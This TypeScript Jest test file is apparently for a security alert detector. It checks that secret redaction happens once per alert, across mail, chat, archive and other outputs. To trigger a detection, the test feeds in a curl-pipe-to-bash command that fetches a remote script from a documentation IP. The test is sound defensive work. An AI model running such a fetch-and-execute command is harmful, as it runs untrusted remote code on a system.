import * as secrets from '../../../shared/command/secrets'
import { processActivity } from '../../../shared/pipeline/process-activity'
import type { Sink } from '../../../shared/pipeline/ports'
import { fittingJson } from '../../../shared/render/fitting-json'
import { alertJson } from '../../../shared/render/redacted-json'
import { jsonText } from '../../../shared/render/json-text'
import { alertSubject } from '../../../shared/render/mail-subject'
import { chatMessage, jsonMessage, mailMessage } from '../../../shared/render/topic-message'
import { awsActivity } from '../../support/activity'
import { testDetector } from '../../support/detector'

jest.mock('../../../shared/command/secrets', () => {
  const actual = jest.requireActual<typeof secrets>('../../../shared/command/secrets')
  return { ...actual, redactSecrets: jest.fn(actual.redactSecrets) }
})

const context = { accountNames: {} }

/** Every form in which both hosts send or keep an alert. */
const SINKS: Readonly<Record<string, Sink['send']>> = {
  mail: async (alert) => void mailMessage(alert, context),
  json: async (alert) => void jsonMessage(alert),
  chat: async (alert) => void chatMessage(alert, context),
  archive: async (alert) => void jsonText(alertJson(alert)),
  store: async (alert) => void fittingJson(alert, 380_000),
  monitor: async (alert) => void alertSubject(alert, context),
}

let commands = 0

/** Texts that are redacted while one activity is judged and its alert sent. */
const redactedFor = async (names: readonly string[]): Promise<readonly string[]> => {
  const sinks = Object.entries(SINKS).flatMap(([name, send]) => (names.includes(name) ? [{ name, send }] : []))
  const detector = testDetector({}, { sinks })
  // A script of its own, because the hash of one that was seen is remembered.
  const text = `curl -s http://203.0.113.9/setup-${++commands}.sh | bash`
  jest.mocked(secrets.redactSecrets).mockClear()
  await processActivity(detector, awsActivity({ payload: { kind: 'text', text } }), 'first')
  expect(detector.metrics.AlertsSent).toBe(1)
  return jest
    .mocked(secrets.redactSecrets)
    .mock.calls.map(([given]) => given.replaceAll(`setup-${commands}.sh`, 'setup.sh'))
}

describe('an alert', () => {
  it('is redacted once, however many ways out it takes', async () => {
    const none = await redactedFor([])
    for (const name of Object.keys(SINKS)) expect([name, await redactedFor([name])]).toEqual([name, none])
    expect(await redactedFor(Object.keys(SINKS))).toEqual(none)
  })

  it('costs 20 redactions in all, those of judging among them', async () => {
    expect((await redactedFor(Object.keys(SINKS))).length).toBeLessThanOrEqual(20)
  })
})
